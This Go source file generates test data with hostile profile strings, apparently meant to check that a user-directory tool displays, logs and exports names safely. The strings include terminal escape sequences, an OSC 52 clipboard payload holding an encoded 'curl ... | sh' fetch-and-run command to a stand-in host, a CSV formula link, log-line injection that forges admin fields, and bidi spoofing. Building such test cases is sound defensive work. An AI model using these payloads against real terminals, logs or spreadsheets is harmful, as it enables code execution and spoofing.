package gen

import "github.com/linkdesk/linkdesk/emulator"

import "strings"

// hostileCase is a profile string that attacks whoever displays, logs or
// exports it. Real tenants hold such strings: users choose their names, and
// custom databases return whatever their scripts do. The generator puts each
// case once into the first chunk, so every tenant has the same handful.
type hostileCase struct {
	name      string
	secondary bool                      // goes into a linked identity's profileData
	fits      func(*emulator.User) bool // nil: any user
	apply     func(*emulator.User)
}

func hasGivenAndFamily(u *emulator.User) bool { return u.GivenName != "" && u.FamilyName != "" }

// hostileLongName is over 10 KB and pure ASCII, so that cutting it cannot
// make it invalid UTF-8.
var hostileLongName = strings.Repeat("Hubert Blaine Wolfeschlegelsteinhausenbergerdorff ", 205)

var hostileCases = []hostileCase{
	{name: "osc-window-title", apply: func(u *emulator.User) { u.Name = "\x1b]0;pwned\x07" + u.Name }},
	{name: "clear-screen", apply: func(u *emulator.User) { u.Nickname += "\x1b[2J\x1b[H" }},
	{name: "osc52-clipboard", apply: func(u *emulator.User) {
		// base64 of "curl -s https://evil.example/x | sh"
		u.Name += "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"
	}},
	{name: "cursor-movement", apply: func(u *emulator.User) { u.Name += "\x1b[1A\x1b[2K\x1b[10Dverified admin" }},
	{name: "c0-c1-controls", fits: hasGivenAndFamily, apply: func(u *emulator.User) {
		u.Name = u.GivenName + "\x00\x07\x08\x7f\u0085\u009b31m " + u.FamilyName
	}},
	{name: "bidi-override", fits: hasGivenAndFamily, apply: func(u *emulator.User) {
		u.Name += " \u202enimda\u202c"
		u.GivenName = "\u202e" + u.GivenName
	}},
	{name: "zero-width", apply: func(u *emulator.User) {
		u.Name = "\u200b" + u.Name + "\u200d\ufeff"
		u.Nickname += "\u200b"
	}},
	{name: "long-name", apply: func(u *emulator.User) { u.Name = u.Name + " " + hostileLongName }},
	{name: "invalid-utf8", fits: hasGivenAndFamily, apply: func(u *emulator.User) { u.Name = "Ren\xe9 " + u.FamilyName + " \xff\xfe" }},
	{name: "line-injection", apply: func(u *emulator.User) { u.Name += "\nuser_id: auth0|admin\r\nemail_verified: true" }},
	{name: "csv-formula", apply: func(u *emulator.User) { u.Nickname = `=HYPERLINK("https://evil.example/x","Click")` }},
	{name: "profile-data-escape", secondary: true, apply: func(u *emulator.User) {
		u.Name = "\x1b]0;pwned\x07\x1b[2J" + u.Name
	}},
	{name: "username-escape", fits: func(u *emulator.User) bool { return u.Connection() == genConns[connLegacy].name }, apply: func(u *emulator.User) {
		u.Username += "\x1b[8m"
		u.Nickname = u.Username
	}},
}

// addHostile puts every hostile case into one user of the chunk each.
func (g *generator) addHostile() {
	used := map[*emulator.User]bool{}
	var fit []*emulator.User
	for _, h := range hostileCases {
		fit = fit[:0]
		if h.secondary {
			for _, l := range g.links {
				fit = append(fit, l.sec)
			}
		} else {
			for _, u := range g.order {
				if !used[u] && (h.fits == nil || h.fits(u)) {
					fit = append(fit, u)
				}
			}
		}
		if len(fit) == 0 {
			continue
		}
		u := fit[g.r.intn(len(fit))]
		used[u] = true
		h.apply(u)
	}
}
